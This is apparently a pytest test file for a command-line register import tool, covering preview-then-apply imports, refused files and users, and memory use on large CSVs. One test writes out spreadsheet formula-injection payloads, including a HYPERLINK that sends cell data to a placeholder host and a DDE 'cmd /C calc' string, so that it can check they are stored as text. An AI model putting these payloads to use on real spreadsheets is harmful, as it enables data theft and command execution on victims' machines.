"""`lali import`: a register looked at and taken in from the command line, whatever the file."""

import io
import json
import os
import subprocess

import openpyxl
import pytest

from tests.project.command_line import LALI, environment, lali

WHO = ("--as", "asha@htu.example", "--register", "pims", "--json")
pytestmark = pytest.mark.slow
GOOD = b"Number,Details\nPIMS-71,Call +679 410 0142 for work\nPIMS-72,A second offer\n,No number\n"
MIB = 1024  # kibibytes, as the system counts a process's memory


@pytest.fixture
def fiji(copy_of):
    return copy_of("fiji")


def answer(fiji, file, *more):
    done = lali("import", file, "--home", fiji, *WHO, *more)
    return done.returncode, json.loads(done.stdout or done.stderr)


def test_a_good_file_is_looked_at_then_taken_in_once(fiji, tmp_path):
    file = tmp_path / "r.csv"
    file.write_bytes(GOOD)
    code, told = answer(fiji, file)
    assert (code, told["state"]) == (0, "previewed")
    assert (told["rows"]["new"], told["rows"]["refused"]) == (2, 1)
    code, told = answer(fiji, file, "--apply", "--continue", told["import"])
    assert (code, told["state"]) == (0, "applied")
    code, told = answer(fiji, file, "--apply")
    assert (told["rows"]["new"], told["rows"]["matches"]) == (0, 2)
    file.write_bytes(GOOD + b"PIMS-73,Another\n")
    code, told = answer(fiji, file, "--apply", "--continue", told["import"])
    assert code == 2
    assert "not the file that was looked at" in told["refused"]


@pytest.mark.parametrize(
    "data", [b"\x89PNG\r\n\x1a\n" + os.urandom(2_000), b"", b"PK\x03\x04 no spreadsheet", b"One column only\n1\n"]
)
def test_a_wrong_file_is_refused_with_a_sentence(fiji, tmp_path, data):
    file = tmp_path / "r.xlsx"
    file.write_bytes(data)
    code, told = answer(fiji, file, "--apply")
    assert code == 2
    assert told["refused"].endswith(".")


def test_who_and_what_is_there(fiji, tmp_path):
    assert lali("import", tmp_path / "none.csv", "--home", fiji, *WHO).returncode == 2
    file = tmp_path / "r.csv"
    file.write_bytes(GOOD)
    for email in ("litia@htu.example", "nobody@htu.example"):
        done = lali("import", file, "--home", fiji, "--as", email, "--register", "pims")
        assert done.returncode == 2
    assert lali("import", file, "--home", tmp_path, *WHO).returncode == 2
    assert lali("import", file, "--home", fiji, "--as", "asha@htu.example", "--register", "nothing").returncode == 2


def test_formulas_of_a_hostile_spreadsheet_are_texts(fiji, tmp_path, inside):
    book = openpyxl.Workbook()
    book.active.append(["Number", "Details"])
    for number, formula in enumerate(
        ['=HYPERLINK("http://x.example/?"&A1,"Open")', "=cmd|' /C calc'!A0", "=WEBSERVICE(A2)", "+1+1", "@SUM(1)"]
    ):
        book.active.append([f"=1+{number}", f"{formula} told us"])
    held = io.BytesIO()
    book.save(held)
    file = tmp_path / "r.xlsx"
    file.write_bytes(held.getvalue())
    code, told = answer(fiji, file, "--apply")
    assert (code, told["rows"]["new"]) == (0, 5)
    texts = inside(
        fiji,
        "from lali.records.tips.models import Tip\nfor tip in Tip.objects.filter(text__contains='told us'): print(tip.text)",
    )
    assert "=WEBSERVICE(A2) told us" in texts
    assert texts.count("told us") == 5


def peak(fiji, file):
    """What one look at a file takes of memory at most, in KiB, and what it says."""
    command = [LALI, "import", str(file), "--home", str(fiji), *WHO]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=environment())
    with process.stdout:
        said = process.stdout.read()
    _pid, status, used = os.wait4(process.pid, 0)
    process.returncode = os.waitstatus_to_exitcode(status)
    assert process.returncode == 0
    return used.ru_maxrss, json.loads(said)


def test_a_hundred_thousand_rows_are_looked_at_in_bounded_memory(fiji, tmp_path):
    few, many = tmp_path / "few.csv", tmp_path / "many.csv"
    few.write_bytes(GOOD)
    with many.open("w") as written:
        written.write("Number,Details\n")
        written.writelines(
            f"PIMS-{n},Somebody rang about work on a boat and a fee of {n} dollars\n" for n in range(100_000)
        )
    (small, _told), (large, told) = peak(fiji, few), peak(fiji, many)
    assert told["rows"]["new"] == 100_000
    assert large - small < 120 * MIB
